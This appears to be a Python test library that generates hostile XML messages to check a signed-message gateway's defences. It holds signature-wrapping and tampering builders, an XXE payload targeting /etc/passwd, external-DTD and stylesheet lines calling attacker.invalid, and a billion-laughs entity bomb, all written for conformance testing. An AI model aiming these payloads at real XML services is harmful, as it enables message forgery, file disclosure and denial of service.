"""A library of attacks on gateway messages, for tests and for the conformance suite.

Every function here is pure: it takes a signed envelope (bytes), an unsigned
envelope tree (never modified; a copy is edited) or nothing at all, and returns
the bytes of one hostile message. Each docstring says what the attack is and
which rule of the gateway (DESIGN.md, "The path of one inbound message") it
tests, and the error code the gateway is designed to answer it with.

Trees are edited with lxml, signatures are built with the same primitives as
``gateway.signing.sign`` (exclusive c14n, the same key operations), so that in
each attack exactly one thing is wrong. Only the attacks on the XML layer
itself (DTDs, entity bombs, encodings, broken syntax) are byte-level, because
what they break cannot be expressed as a tree.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from typing import Literal

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from lxml import etree

from gateway.envelope import DSIG_NS, ENVELOPE_NS, qname
from gateway.signing.algorithms import (
    ENVELOPED_SIGNATURE,
    EXC_C14N_NS,
    SHA256_DIGEST,
    Canonicalization,
    signature_algorithm_for,
)
from gateway.signing.canonical import canonicalize
from gateway.signing.keys import SigningIdentity, der_of
from gateway.signing.pki import CertificateAuthority, PrivateKey
from gateway.signing.sign import serialize

__all__ = [
    "DSIG_NS",
    "ECDSA_SHA1",
    "RSA_SHA1",
    "SHA1_DIGEST",
    "WRAPPER_NS",
    "XPATH_TRANSFORM",
    "append_signature",
    "as_character_references",
    "body_changed_after_signing",
    "comment_in_text",
    "deep_nesting",
    "entity_bomb",
    "expired_identity",
    "external_dtd",
    "foreign_ca_identity",
    "header_changed_after_signing",
    "huge_attribute",
    "huge_text",
    "key_info_removed",
    "not_well_formed",
    "padded",
    "reference_by_id",
    "second_unsigned_content",
    "sha1_signature",
    "signature_moved",
    "signature_removed",
    "SignatureRecipe",
    "signed_to_recipe",
    "signed_with_other_key",
    "text_as_cdata",
    "trailing_content",
    "two_signatures",
    "undeclared_entity",
    "weak_rsa_identity",
    "with_doctype",
    "with_processing_instruction",
    "with_utf8_bom",
    "wrap_signed_copy_in_object",
    "wrap_signed_envelope_in_forged_envelope",
    "wrap_signed_envelope_in_wrapper",
    "wrong_encoding",
    "xxe",
]

RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
ECDSA_SHA1 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"
SHA1_DIGEST = "http://www.w3.org/2000/09/xmldsig#sha1"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"
WRAPPER_NS = "urn:attacker:wrapper"
"""Namespace of the elements the wrapping attacks invent."""

_C14N = Canonicalization.EXCLUSIVE
_DS_NSMAP = {"ds": DSIG_NS}
_SIGNATURE = f"{{{DSIG_NS}}}Signature"


# --- tampering with a signed envelope -------------------------------------------


def body_changed_after_signing(signed: bytes, local_name: str | None = None, value: str | None = None) -> bytes:
    """The signed envelope with one text of the payload changed afterwards.

    Rule: the one ``Reference URI=""`` covers the whole envelope, so any change
    to Body/Content breaks the digest (SIGNATURE_DIGEST_MISMATCH). The changed
    element is the first leaf of the payload named `local_name` (any leaf with
    text when None); its new text is `value`, or by default a plausible forgery
    that stays schema-valid (a number divided by ten, e.g. a lowered customs
    value), so that only the signature can tell.
    """
    root = _parse(signed)
    _alter_payload(root, local_name, value)
    return serialize(root)


def header_changed_after_signing(
    signed: bytes, field: Sequence[str] = ("Subject", "reference"), value: str | None = None
) -> bytes:
    """The signed envelope with one header field changed afterwards.

    `field` is the path of local names below Header, e.g. ``("Subject", "reference")``
    (the default) or ``("To", "identity")``. Rule: the header is signed like the
    body (SIGNATURE_DIGEST_MISMATCH); a signature over the body alone would let
    anyone re-address or re-label a message.
    """
    root = _parse(signed)
    element = _header_field(root, field)
    element.text = value if value is not None else _forged_text(element.text or "")
    return serialize(root)


def two_signatures(signed: bytes, identity: SigningIdentity) -> bytes:
    """The signed envelope with a second, cryptographically valid enveloped signature by `identity`.

    The second ``ds:Signature`` is appended after the first and covers the whole
    envelope including the first one (which, as the second lies inside what the
    first covers, no longer matches its digest: two enveloped signatures over
    the same element can never both verify). Rule: exactly one signature is
    allowed (SIGNATURE_MULTIPLE), refused before any cryptography.
    """
    root = _parse(signed)
    append_signature(root, identity.private_key, _chain(identity), _recipe_for(identity))
    return serialize(root)


def comment_in_text(
    signed: bytes, field: Sequence[str] = ("Header", "Reference", "messageId"), at: int = 8
) -> bytes:
    """The signed envelope with an empty comment inserted into one signed text, after `at` characters.

    Canonicalisation without comments (the profile's default) drops the
    comment, so the digest and the signature still verify; but a reader that
    takes an element's ``.text`` sees only the part before the comment (the
    SAML comment-injection family of attacks). On ``messageId`` this turns a
    replay into a "new" message id. `field` is the path from the root, as in
    `xxe`. Rule: the gateway must act on exactly the value it verified (the
    whole text), never on a fragment of it.
    """
    root = _parse(signed)
    element = _descend(root, field)
    text = element.text or ""
    if len(element) or not 0 < at < len(text):
        raise ValueError(f"cannot split {text!r} after {at} characters")
    comment = etree.Comment("")
    comment.tail = text[at:]
    element.text = text[:at]
    element.insert(0, comment)
    return serialize(root)


def signature_removed(signed: bytes) -> bytes:
    """The signed envelope with its ``ds:Signature`` taken out. Rule: messages must be signed (SIGNATURE_MISSING)."""
    root = _parse(signed)
    for signature in root.findall(_SIGNATURE):
        _remove(signature)
    return serialize(root)


def key_info_removed(signed: bytes) -> bytes:
    """The signed envelope with ``ds:KeyInfo`` taken out of its signature (which stays valid).

    KeyInfo is outside SignedInfo, so the signature still verifies with the
    signer's key. Rule: without a certificate in the message the gateway tries
    the sending party's registered certificates; if none verifies the signature
    the answer is SIGNATURE_INVALID, and with no registered certificate at all
    (an unknown party) CERTIFICATE_MISSING.
    """
    root = _parse(signed)
    for key_info in _signature_of(root).findall(f"{{{DSIG_NS}}}KeyInfo"):
        _remove(key_info)
    return serialize(root)


def signature_moved(signed: bytes, into: Sequence[str] = ("Header",)) -> bytes:
    """The signed envelope with its (intact) ``ds:Signature`` moved into the element at path `into`.

    The signature still covers the envelope as it was signed, and a verifier
    that looks for it anywhere finds it. Rule: the signature must be a direct
    child of the envelope (SIGNATURE_MISPLACED).
    """
    root = _parse(signed)
    signature = _signature_of(root)
    _remove(signature)
    _descend(root, into).append(signature)
    return serialize(root)


# --- signature wrapping ------------------------------------------------------------


def wrap_signed_copy_in_object(signed: bytes) -> bytes:
    """XML signature wrapping through ``ds:Object``: a forged envelope carrying the original's signature.

    The top-level envelope is the original with its payload altered (as in
    `body_changed_after_signing`); its ``ds:Signature`` is the original one, to
    which a ``ds:Object`` is added holding the original envelope as it was
    signed (without its signature). A verifier that resolves what the signature
    covers by searching the document can find the genuine copy and pass, while
    the application processes the forged top level. Rule: the signature
    profile allows SignedInfo, SignatureValue and KeyInfo only, and the
    reference covers the whole envelope (SIGNATURE_PROFILE).
    """
    original = _parse(signed)
    unsigned_original = copy.deepcopy(original)
    for signature in unsigned_original.findall(_SIGNATURE):
        _remove(signature)
    forged = copy.deepcopy(original)
    _alter_payload(forged)
    signature = _signature_of(forged)
    etree.SubElement(signature, f"{{{DSIG_NS}}}Object", nsmap=_DS_NSMAP).append(unsigned_original)
    return serialize(forged)


def wrap_signed_envelope_in_wrapper(signed: bytes, wrapper: str = f"{{{WRAPPER_NS}}}Wrapper") -> bytes:
    """The intact signed envelope inside a new root element (Clark name `wrapper`).

    The original signature still verifies over its own subtree. Rule: the
    document must be an envelope, so a foreign root is refused before anything
    else is read (ENVELOPE_INVALID).
    """
    original = _parse(signed)
    namespace = etree.QName(wrapper).namespace
    root = etree.Element(wrapper, nsmap={"w": namespace} if namespace else None)
    root.append(original)
    return serialize(root)


def wrap_signed_envelope_in_forged_envelope(signed: bytes) -> bytes:
    """A forged, unsigned envelope that carries the intact signed original as its last child.

    The forged envelope has the original's header and an altered payload; where
    its signature would be sits the whole signed original, whose signature still
    verifies over that subtree. A verifier that looks for "a valid signature
    somewhere" accepts it. Rule: the signature must be a direct child of the
    processed envelope (SIGNATURE_MISPLACED).
    """
    original = _parse(signed)
    forged = copy.deepcopy(original)
    for signature in forged.findall(_SIGNATURE):
        _remove(signature)
    _alter_payload(forged)
    forged.append(original)
    return serialize(forged)


def second_unsigned_content(signed: bytes, where: Literal["content", "body"] = "content") -> bytes:
    """The signed envelope with forged, unsigned content placed before the signed content.

    With `where="content"` a forged copy of the payload becomes the first child
    of Body/Content; with `where="body"` a whole forged Body is inserted before
    the signed Body. A processor that takes "the first payload" would read the
    forgery. Rule: the reference covers the whole envelope, so anything added
    breaks the digest (SIGNATURE_DIGEST_MISMATCH).
    """
    root = _parse(signed)
    body = _required(root, "Body")
    if where == "content":
        content = _required(body, "Content")
        forged = copy.deepcopy(_payload(root))
        forged.tail = content.text
        content.insert(0, forged)
        _alter_first_leaf(forged, None, None)
    elif where == "body":
        forged_body = copy.deepcopy(body)
        forged_body.tail = body.tail
        body.addprevious(forged_body)
        _alter_first_leaf(_payload_of_body(forged_body), None, None)
    else:
        raise ValueError(f"where must be 'content' or 'body', not {where!r}")
    return serialize(root)


# --- signatures to order -------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class SignatureRecipe:
    """How to build one ``ds:Signature``: every URI written into it and the hashes really used.

    URIs are written as given and values computed with the given hashes, so a recipe
    describes a correct signature in another profile (inclusive c14n, SHA-512,
    SHA-1...) as easily as one whose label names an algorithm that was not used
    (DSA, HMAC: refused by name, before any value is checked). The reference is
    canonicalised as a verifier would: with its last c14n transform, or inclusive
    c14n 1.0 when there is none.
    """

    signature_method: str
    signature_hash: hashes.HashAlgorithm
    digest_method: str = SHA256_DIGEST
    digest_hash: hashes.HashAlgorithm = field(default_factory=hashes.SHA256)
    canonicalization: str = _C14N.uri  # of SignedInfo; an unknown URI is computed as exclusive c14n
    transforms: tuple[str, ...] = (ENVELOPED_SIGNATURE, _C14N.uri)
    reference_uri: str = ""
    prefix_list: tuple[str, ...] = ()  # InclusiveNamespaces of every exclusive c14n ("#default" included)

    @classmethod
    def profile(cls, key_type: str) -> SignatureRecipe:
        """The gateway's own profile for a key type ("rsa" or "ec"): SHA-256, exclusive c14n."""
        algorithm = signature_algorithm_for(key_type)
        return cls(algorithm.uri, algorithm.hash())


def append_signature(
    root: etree._Element,
    key: PrivateKey,
    certificates: Sequence[bytes] | None,
    recipe: SignatureRecipe,
    referenced: etree._Element | None = None,
) -> etree._Element:
    """Append a ``ds:Signature`` built to `recipe` to `root` (modified in place) and return it.

    With `referenced` None the signature covers the whole of `root` (as it is
    before the signature is appended, which is what enveloped-signature removes
    again); otherwise it covers `referenced`, named by the recipe's reference
    URI. `certificates` are the DER bytes written into KeyInfo/X509Data, in
    order; None writes no KeyInfo at all.
    """
    target = root if referenced is None else referenced
    digest = hashes.Hash(recipe.digest_hash)
    digest.update(canonicalize(target, _digest_canonicalization(recipe.transforms), recipe.prefix_list))

    signature = etree.SubElement(root, _SIGNATURE, nsmap=_DS_NSMAP)
    signed_info = _ds(signature, "SignedInfo")
    _with_prefix_list(_ds(signed_info, "CanonicalizationMethod", Algorithm=recipe.canonicalization), recipe)
    _ds(signed_info, "SignatureMethod", Algorithm=recipe.signature_method)
    reference = _ds(signed_info, "Reference", URI=recipe.reference_uri)
    if recipe.transforms:
        transforms = _ds(reference, "Transforms")
        for uri in recipe.transforms:
            transform = _ds(transforms, "Transform", Algorithm=uri)
            if uri == XPATH_TRANSFORM:
                _ds(transform, "XPath", "not(ancestor-or-self::ds:Signature)")
            if uri == recipe.transforms[-1]:
                _with_prefix_list(transform, recipe)
    _ds(reference, "DigestMethod", Algorithm=recipe.digest_method)
    _ds(reference, "DigestValue", base64.b64encode(digest.finalize()).decode("ascii"))

    signed_info_c14n = Canonicalization.from_uri(recipe.canonicalization) or _C14N
    value = _sign(key, canonicalize(signed_info, signed_info_c14n, recipe.prefix_list), recipe.signature_hash)
    _ds(signature, "SignatureValue", base64.b64encode(value).decode("ascii"))
    if certificates is not None:
        x509_data = _ds(_ds(signature, "KeyInfo"), "X509Data")
        for der in certificates:
            _ds(x509_data, "X509Certificate", base64.b64encode(der).decode("ascii"))
    return signature


def _with_prefix_list(method: etree._Element, recipe: SignatureRecipe) -> None:
    """The recipe's PrefixList under an exclusive canonicalisation method or transform."""
    c14n = Canonicalization.from_uri(method.get("Algorithm"))
    if recipe.prefix_list and c14n is not None and c14n.exclusive:
        etree.SubElement(
            method, f"{{{EXC_C14N_NS}}}InclusiveNamespaces", PrefixList=" ".join(recipe.prefix_list), nsmap={"ec": EXC_C14N_NS}
        )


def signed_to_recipe(
    unsigned_root: etree._Element,
    key: PrivateKey,
    certificates: Sequence[bytes] | None,
    recipe: SignatureRecipe,
) -> bytes:
    """A copy of `unsigned_root` signed (enveloped, over the whole envelope) to `recipe`, serialised."""
    root = copy.deepcopy(unsigned_root)
    append_signature(root, key, certificates, recipe)
    return serialize(root)


# --- signatures built by hand (one thing wrong each) -------------------------------


def reference_by_id(unsigned_root: etree._Element, identity: SigningIdentity, id_value: str = "signed-header") -> bytes:
    """An envelope whose signature covers only the Header, referenced by ``URI="#<id>"``.

    The Header gets ``Id="<id_value>"``; the signature (correct digest and value,
    SHA-256, `identity`'s key and certificate) references it alone, so the Body
    is not signed at all and can be anything. Rule: the one Reference must be
    ``URI=""``, the whole envelope (SIGNATURE_PROFILE).
    """
    root = copy.deepcopy(unsigned_root)
    header = _required(root, "Header")
    header.set("Id", id_value)
    recipe = replace(_recipe_for(identity), transforms=(_C14N.uri,), reference_uri=f"#{id_value}")
    append_signature(root, identity.private_key, _chain(identity), recipe, referenced=header)
    return serialize(root)


def sha1_signature(unsigned_root: etree._Element, identity: SigningIdentity) -> bytes:
    """An envelope signed correctly in every respect except that SHA-1 is used.

    SignatureMethod is rsa-sha1 (ecdsa-sha1 for an EC key) and DigestMethod is
    sha1; the digest and signature values are correct for those algorithms.
    Rule: SHA-256 or stronger (SIGNATURE_ALGORITHM).
    """
    method = RSA_SHA1 if identity.key_type == "rsa" else ECDSA_SHA1
    recipe = SignatureRecipe(method, hashes.SHA1(), SHA1_DIGEST, hashes.SHA1())
    return signed_to_recipe(unsigned_root, identity.private_key, _chain(identity), recipe)


def signed_with_other_key(
    unsigned_root: etree._Element, cert_identity: SigningIdentity, key_identity: SigningIdentity
) -> bytes:
    """An envelope whose KeyInfo carries `cert_identity`'s certificate but whose signature is by `key_identity`'s key.

    The digest is correct; SignatureValue is a valid signature by the other key
    (with the signature method for that key's type). Rule: the signature must
    verify with the key of the certificate presented (SIGNATURE_INVALID).
    """
    return signed_to_recipe(unsigned_root, key_identity.private_key, _chain(cert_identity), _recipe_for(key_identity))


# --- attacks on the XML layer ------------------------------------------------------


def with_doctype(body: bytes, internal_subset: str = "<!ELEMENT Envelope ANY>") -> bytes:
    """`body` (re-serialised, same tree, so a signature stays valid) with a DOCTYPE declaration.

    The root's name and `internal_subset` make up the declaration. Rule: no DTD
    at all (XML_DTD_FORBIDDEN).
    """
    root = _parse(body)
    doctype = f"<!DOCTYPE {_prefixed_name(root)} [{internal_subset}]>"
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype)


def xxe(
    body: bytes,
    target: str = "file:///etc/passwd",
    field: Sequence[str] = ("Header", "Subject", "reference"),
    entity: str = "xxe",
) -> bytes:
    """`body` with an external entity (SYSTEM `target`) declared and referenced in a text node.

    The entity reference replaces the text of the element at `field` (the path
    from the root: envelope local names, or Clark names for payload elements;
    by default Subject/reference, which a receipt echoes back: the classic
    exfiltration channel). Rule: no DTD, no entity is ever
    resolved (XML_DTD_FORBIDDEN); the target must never be read.
    """
    root = _parse(body)
    element = _descend(root, field)
    for child in list(element):
        element.remove(child)
    element.text = None
    element.append(etree.Entity(entity))
    doctype = f'<!DOCTYPE {_prefixed_name(root)} [<!ENTITY {entity} SYSTEM "{target}">]>'
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype)


def entity_bomb(levels: int = 10, fanout: int = 10) -> bytes:
    """The "billion laughs": nested internal entities expanding to `fanout ** levels` copies of "lol".

    With the defaults a 1 KB document expands to 10^10 characters (about 30 GB).
    Rule: no DTD, no entity expansion (XML_DTD_FORBIDDEN), and the refusal is fast.
    """
    if levels < 1 or fanout < 1:
        raise ValueError("levels and fanout must be positive")
    declarations = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        declarations.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * fanout}">')
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"<!DOCTYPE Envelope [\n{chr(10).join(declarations)}\n]>\n"
        f'<Envelope xmlns="{ENVELOPE_NS}">&lol{levels};</Envelope>\n'
    ).encode()


def deep_nesting(depth: int) -> bytes:
    """An envelope-rooted document nested `depth` elements deep. Rule: bounded tree depth (XML_LIMIT_EXCEEDED)."""
    if depth < 1:
        raise ValueError("depth must be positive")
    inner = depth - 1
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="{ENVELOPE_NS}">'.encode()
        + b"<n>" * inner
        + b"</n>" * inner
        + b"</Envelope>\n"
    )


def huge_attribute(size: int, body: bytes | None = None, name: str = "padding") -> bytes:
    """`body` (a minimal envelope when None) with an attribute of `size` characters on its root.

    Rule: bounded node size (XML_LIMIT_EXCEEDED once `size` passes libxml2's
    10,000,000-byte limit; a body over the configured size is refused earlier
    with REQUEST_TOO_LARGE).
    """
    root = _parse(body) if body is not None else etree.Element(qname("Envelope"), nsmap={None: ENVELOPE_NS})
    root.set(name, "A" * size)
    return serialize(root)


EncodingAttack = Literal["latin-1-declared-utf-8", "utf-16", "declared-latin-1", "declared-latin-1-late"]


def wrong_encoding(body: bytes, kind: EncodingAttack = "latin-1-declared-utf-8") -> bytes:
    """`body` in an encoding the gateway refuses. Rule: UTF-8 only (XML_ENCODING).

    - ``latin-1-declared-utf-8``: the text is encoded as ISO-8859-1 (characters
      outside it become "?") while the declaration still says UTF-8, so the
      bytes are not valid UTF-8. An "é" comment is added first when the body has
      no Latin-1 letter, so the result is never accidentally valid UTF-8.
    - ``utf-16``: the same document honestly serialised as UTF-16 with a BOM.
    - ``declared-latin-1``: honestly serialised as ISO-8859-1 with that declaration.
    - ``declared-latin-1-late``: declared ISO-8859-1, but the XML declaration is
      padded with (legal) whitespace so that ``encoding="ISO-8859-1"`` starts
      after byte 256, and every non-ASCII character is a character reference,
      so the bytes are also valid UTF-8: a check that only looks at the head of
      the body, or only at whether the bytes decode as UTF-8, misses it.

    The honest serialisations write characters outside the encoding as
    character references, so the tree (and any signature over it) is unchanged.
    """
    root = _parse(body)
    if kind == "utf-16":
        return etree.tostring(root, xml_declaration=True, encoding="UTF-16")
    if kind == "declared-latin-1":
        return etree.tostring(root, xml_declaration=True, encoding="ISO-8859-1")
    if kind == "declared-latin-1-late":
        declaration = '<?xml version="1.0"' + " " * 256 + 'encoding="ISO-8859-1"?>\n'
        return declaration.encode("ascii") + etree.tostring(root, encoding="US-ASCII", xml_declaration=False)
    if kind != "latin-1-declared-utf-8":
        raise ValueError(f"unknown kind {kind!r}")
    text = serialize(root).decode("utf-8")
    if not any("\u0080" <= ch <= "\u00ff" for ch in text):
        root.append(etree.Comment(" é "))
        text = serialize(root).decode("utf-8")
    return text.encode("iso-8859-1", errors="replace")


def with_processing_instruction(
    body: bytes,
    target: str = "xml-stylesheet",
    data: str = 'type="text/xsl" href="http://attacker.invalid/x.xsl"',
    inside: Sequence[str] | None = None,
) -> bytes:
    """`body` with a processing instruction before its root (stylesheet injection), or inside an element.

    `inside` is the path from the root (as in `xxe`) of the element that gets the
    instruction as its first child. Rule: processing instructions are refused
    (XML_FORBIDDEN_CONSTRUCT).
    """
    root = _parse(body)
    instruction = etree.ProcessingInstruction(target, data)
    if inside is None:
        root.addprevious(instruction)
    else:
        _descend(root, inside).insert(0, instruction)
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")


def not_well_formed(body: bytes) -> bytes:
    """`body` truncated before its last end tag: an unclosed root. Rule: well-formed XML only (XML_MALFORMED)."""
    end = body.rstrip().rfind(b"</")
    if end <= 0:
        raise ValueError("the body has no end tag to remove")
    return body[:end]


def external_dtd(body: bytes, uri: str = "http://attacker.invalid/evil.dtd") -> bytes:
    """`body` with a DOCTYPE naming an external DTD subset (SYSTEM `uri`): a file read or a request out.

    Rule: no DTD at all, internal or external, and nothing is ever fetched (XML_DTD_FORBIDDEN).
    """
    root = _parse(body)
    doctype = f'<!DOCTYPE {_prefixed_name(root)} SYSTEM "{uri}">'
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype)


def undeclared_entity(
    body: bytes, field: Sequence[str] = ("Header", "Subject", "reference"), entity: str = "x"
) -> bytes:
    """`body` with the text at `field` replaced by a reference to an entity that no DTD declares.

    Rule: entity references are refused (XML_FORBIDDEN_CONSTRUCT).
    """
    marker = "@@entity@@"
    root = _parse(body)
    _descend(root, field).text = marker
    return serialize(root).replace(marker.encode("ascii"), f"&{entity};".encode("ascii"))


def trailing_content(body: bytes, content: bytes = b"<Envelope/>") -> bytes:
    """`body` followed by `content` after its root element: two roots. Rule: well-formed XML only (XML_MALFORMED)."""
    return body.rstrip() + b"\n" + content


def huge_text(body: bytes, size: int, field: Sequence[str] = ("Header", "Subject", "reference")) -> bytes:
    """`body` with the text at `field` replaced by `size` characters.

    Rule: bounded node size (XML_LIMIT_EXCEEDED once `size` passes libxml2's
    10,000,000-byte text limit); below the limit it is a schema matter.
    """
    root = _parse(body)
    _descend(root, field).text = "A" * size
    return serialize(root)


def padded(body: bytes, size: int, chunk: int = 1_000_000) -> bytes:
    """`body` made exactly `size` bytes long with comments after its root element.

    Comments outside the root are not part of what is signed, so a signed body
    stays valid: this is how a message of an exact size (at a size limit) is
    made. The padding comes as comments of at most `chunk` bytes each, so that
    no single node approaches the parser's node-size limit.
    """
    body = body.rstrip()
    missing = size - len(body)
    if missing < 0:
        raise ValueError(f"the body has {len(body)} bytes, more than {size}")
    parts = [body]
    while missing:
        if missing < 8:  # too short for a comment: pad with white space
            parts.append(b" " * missing)
            break
        length = min(chunk, missing)
        parts.append(b"<!--" + b"p" * (length - 7) + b"-->")
        missing -= length
    return b"".join(parts)


def with_utf8_bom(body: bytes) -> bytes:
    """`body` preceded by the UTF-8 byte order mark: still UTF-8, and the same document."""
    return b"\xef\xbb\xbf" + body


def as_character_references(body: bytes) -> bytes:
    """`body` re-serialised in ASCII: every non-ASCII character becomes a character reference.

    No XML declaration is written, so the document is read as UTF-8 (which ASCII
    is); the tree, and any signature over it, is unchanged. A gateway must treat
    ``&#7879;`` exactly as the character it stands for.
    """
    return etree.tostring(_parse(body), encoding="US-ASCII", xml_declaration=False)


def text_as_cdata(body: bytes, field: Sequence[str] = ("Header", "Subject", "reference")) -> bytes:
    """`body` with the text at `field` written as a CDATA section: the same text, so a signature stays valid."""
    root = _parse(body)
    element = _descend(root, field)
    element.text = etree.CDATA(element.text or "")
    return serialize(root)


# --- attack credentials ------------------------------------------------------------


def expired_identity(ca: CertificateAuthority, common_name: str, uid: str, kind: str = "rsa-2048") -> SigningIdentity:
    """A key with a certificate from `ca` that expired a day ago (valid for the year before).

    Rule: the certificate must be valid now (CERTIFICATE_EXPIRED).
    """
    now = dt.datetime.now(dt.UTC)
    return ca.issue(common_name, uid, kind, not_before=now - dt.timedelta(days=366), not_after=now - dt.timedelta(days=1))


def foreign_ca_identity(common_name: str, uid: str, kind: str = "rsa-2048") -> SigningIdentity:
    """A key with a certificate from a freshly made CA that no gateway trusts. Rule: CERTIFICATE_UNTRUSTED."""
    return CertificateAuthority.create("Unknown Test CA").issue(common_name, uid, kind)


def weak_rsa_identity(ca: CertificateAuthority, common_name: str, uid: str, bits: int = 1024) -> SigningIdentity:
    """A `bits`-bit RSA key (1024 by default) certified by `ca`. Rule: RSA >= 2048 (KEY_TOO_WEAK)."""
    return ca.issue(common_name, uid, f"rsa-{bits}")


# --- helpers -----------------------------------------------------------------------


def _recipe_for(identity: SigningIdentity) -> SignatureRecipe:
    """The gateway's own profile for a key (what gateway.signing.sign uses)."""
    return SignatureRecipe.profile(identity.key_type)


def _chain(identity: SigningIdentity) -> list[bytes]:
    return [der_of(certificate) for certificate in (identity.certificate, *identity.intermediates)]


def _digest_canonicalization(transforms: Sequence[str]) -> Canonicalization:
    """What a verifier canonicalises the reference with: its last c14n transform, else inclusive c14n 1.0."""
    methods = [method for method in map(Canonicalization.from_uri, transforms) if method is not None]
    return methods[-1] if methods else Canonicalization.INCLUSIVE


def _sign(key: PrivateKey, data: bytes, hash_algorithm: hashes.HashAlgorithm) -> bytes:
    """RSA PKCS#1 v1.5, or ECDSA as the fixed-size r||s that XML-DSig wants."""
    if isinstance(key, ec.EllipticCurvePrivateKey):
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(hash_algorithm)))
        size = (key.curve.key_size + 7) // 8
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")
    return key.sign(data, padding.PKCS1v15(), hash_algorithm)


def _ds(parent: etree._Element, local: str, text: str | None = None, **attributes: str) -> etree._Element:
    element = etree.SubElement(parent, f"{{{DSIG_NS}}}{local}", attributes, nsmap=_DS_NSMAP)
    element.text = text
    return element


def _parse(data: bytes) -> etree._Element:
    """Parse our own (trusted) bytes; never resolves entities or loads anything."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    return etree.fromstring(data, parser)


def _signature_of(root: etree._Element) -> etree._Element:
    signature = root.find(_SIGNATURE)
    if signature is None:
        raise ValueError("the envelope is not signed")
    return signature


def _required(parent: etree._Element, local: str) -> etree._Element:
    """The first child named `local` (an envelope element) or `{namespace}local` (any other)."""
    found = parent.find(local if local.startswith("{") else qname(local))
    if found is None:
        raise ValueError(f"{parent.tag} has no {local} element")
    return found


def _descend(root: etree._Element, path: Sequence[str]) -> etree._Element:
    element = root
    for local in path:
        element = _required(element, local)
    return element


def _header_field(root: etree._Element, field: Sequence[str]) -> etree._Element:
    return _descend(_required(root, "Header"), field)


def _payload_of_body(body: etree._Element) -> etree._Element:
    content = _required(body, "Content")
    children = [child for child in content if isinstance(child.tag, str)]
    if not children:
        raise ValueError("Body/Content is empty")
    return children[0]


def _payload(root: etree._Element) -> etree._Element:
    return _payload_of_body(_required(root, "Body"))


def _alter_payload(root: etree._Element, local_name: str | None = None, value: str | None = None) -> None:
    _alter_first_leaf(_payload(root), local_name, value)


def _alter_first_leaf(payload: etree._Element, local_name: str | None, value: str | None) -> None:
    for element in payload.iter(etree.Element):
        if local_name is not None and etree.QName(element).localname != local_name:
            continue
        if len(element) == 0 and (element.text or "").strip():
            element.text = value if value is not None else _forged_text(element.text or "")
            return
    raise ValueError(f"the payload has no leaf element{' named ' + local_name if local_name else ''} with text")


def _forged_text(text: str) -> str:
    """A different, similar-looking value: digits divided by ten (still digits), other text marked."""
    stripped = text.strip()
    if stripped.isdigit():
        forged = str(int(stripped) // 10) if len(stripped) > 1 else str((int(stripped) + 1) % 10)
        return forged if forged != stripped else stripped + "1"
    return f"{stripped} (forged)" if stripped else "forged"


def _prefixed_name(root: etree._Element) -> str:
    local = etree.QName(root).localname
    return f"{root.prefix}:{local}" if root.prefix else local


def _remove(element: etree._Element) -> None:
    """Remove an element but keep its tail text where it was."""
    parent = element.getparent()
    if parent is None:
        raise ValueError("cannot remove the root element")
    if element.tail:
        previous = element.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
    parent.remove(element)
